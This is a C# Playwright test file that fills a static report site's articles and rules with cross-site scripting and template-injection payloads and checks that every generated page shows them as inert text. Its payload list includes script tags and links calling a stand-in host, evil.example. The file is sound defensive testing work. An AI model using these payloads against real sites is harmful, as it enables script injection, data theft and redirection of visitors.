using Compare.Reports.Publishing;
using Compare.Tests.EndToEnd;
using Microsoft.Playwright;
using NUnit.Framework;

namespace Compare.Tests.Browser;

/// <summary>Articles and rules whose every field and paragraph is hostile: on every page it is text, and nothing else.</summary>
public class HostileContentTests
{
    private static readonly string[] Payloads =
    [
        "<script>window.hit=1;fetch('https://evil.example/a')</script>",
        "\"><img src=https://evil.example/b.png onerror=window.hit=2>",
        "'><svg onload=window.hit=3>",
        "</title></style></textarea><script src=https://evil.example/c.js></script>",
        "<a href=\"javascript:window.hit=4\">x</a>",
        "{{ 7 * 191 }}{% raw %}{{ include 'x' }}",
        "<!-- --><iframe src=https://evil.example/d></iframe>",
        "<meta http-equiv=refresh content='0;url=https://evil.example/e'>",
        "<link rel=stylesheet href=https://evil.example/f.css><style>@import 'https://evil.example/g.css'</style>",
        "javascript:window.hit=5",
        "&lt;b&gt;&#x3c;script&#x3e;",
        "\u202e]]>--><base href=https://evil.example/>",
    ];

    [Test]
    public async Task Is_inert_on_every_page()
    {
        string site = Write();
        string[] pages = [.. Directory.EnumerateFiles(site, "*.html", SearchOption.AllDirectories).Order(StringComparer.Ordinal)];
        Assert.That(pages, Has.Length.GreaterThanOrEqualTo(4), "index, a fact and two articles");

        await using Chromium chromium = await Chromium.StartAsync();
        IPage page = await chromium.Browser.NewPageAsync();
        var requests = new List<string>();
        var dialogs = new List<string>();
        page.Request += (_, request) => requests.Add(request.Url);
        page.Dialog += (_, dialog) => dialogs.Add(dialog.Message);
        await page.AddInitScriptAsync("window.hit = 0");
        bool anyText = false;
        foreach (string file in pages)
        {
            await page.GotoAsync(new Uri(file).AbsoluteUri, new PageGotoOptions { WaitUntil = WaitUntilState.Load });
            Assert.That(await page.EvaluateAsync<int>("window.hit"), Is.Zero, file);
            Assert.That(
                await page.Locator("script[src], iframe, base, [onerror], [onload], [onclick], meta[http-equiv=refresh i], img")
                    .CountAsync(),
                Is.Zero,
                file
            );
            Assert.That(await page.Locator("script:not([type='application/ld+json'])").CountAsync(), Is.EqualTo(OwnScripts(file)), file);
            Assert.That(await page.Locator("a[href^='javascript' i]").CountAsync(), Is.Zero, file);
            Assert.That(await page.ContentAsync(), Does.Not.Contain("1337"), file);
            anyText |= (await page.InnerTextAsync("body")).Contains(Payloads[0], StringComparison.Ordinal);
        }

        Assert.Multiple(() =>
        {
            Assert.That(anyText, "the hostile text is shown as text somewhere");
            Assert.That(requests.Where(r => !r.StartsWith("file://", StringComparison.Ordinal)), Is.Empty);
            Assert.That(dialogs, Is.Empty);
        });
    }

    /// <summary>The index, facts' pages and the one file have a script of ours, which their policy names.</summary>
    private static int OwnScripts(string file) =>
        Path.GetFileName(file) is "report.html" or "index.html" || file.Contains("/facts/", StringComparison.Ordinal) ? 1 : 0;

    private static string Write()
    {
        string root = Directory.CreateTempSubdirectory("hostile").FullName;
        string corpus = Directory.CreateDirectory(Path.Combine(root, "corpus")).FullName;
        string rules = Directory.CreateDirectory(Path.Combine(root, "rules")).FullName;
        for (int i = 0; i < 2; i++)
        {
            string paragraphs = string.Join("\n\n", Payloads.Select(p => $"{p} said that {15 + i} people died {p}"));
            File.WriteAllText(
                Path.Combine(corpus, $"a{i}.md"),
                $"""
                ---
                outlet: {Yaml(Payloads[0])}
                title: {Yaml(string.Join(' ', Payloads))}
                authors: [{Yaml(Payloads[1])}]
                published: 2021-08-16
                url: {Yaml(Payloads[9])}
                ---
                {paragraphs}

                """
            );
        }

        File.WriteAllText(
            Path.Combine(rules, "toll.yaml"),
            $"""
            id: toll
            title: {Yaml(Payloads[0] + Payloads[1])}
            question: {Yaml(Payloads[2])}
            value: count
            of: people
            reference:
              value: "15"
              source: {Yaml(Payloads[3])}
            tests:
              - text: "15 people died."
                value: "15"
            """
        );
        File.WriteAllText(
            Path.Combine(rules, "who.yaml"),
            $"""
            id: who
            title: {Yaml(Payloads[5])}
            value: choice
            choices:
              {Yaml(Payloads[4])}: [people died]
              {Yaml(Payloads[6])}: [people lived]
            tests:
              - text: "Many people died."
                value: {Yaml(Payloads[4])}
            """
        );
        string site = Path.Combine(root, "site");
        Assert.That(SiteWriter.Write(MainJob.Run(corpus, rules), site, null, [], new SiteOptions { SingleFile = true }), Is.Empty);
        return site;
    }

    /// <summary>A double-quoted scalar of YAML.</summary>
    private static string Yaml(string text) =>
        "\""
        + string.Concat(
            text.Select(c =>
                c switch
                {
                    '"' => "\\\"",
                    '\\' => "\\\\",
                    '\u202e' => "\\u202e",
                    _ => c.ToString(),
                }
            )
        )
        + "\"";
}
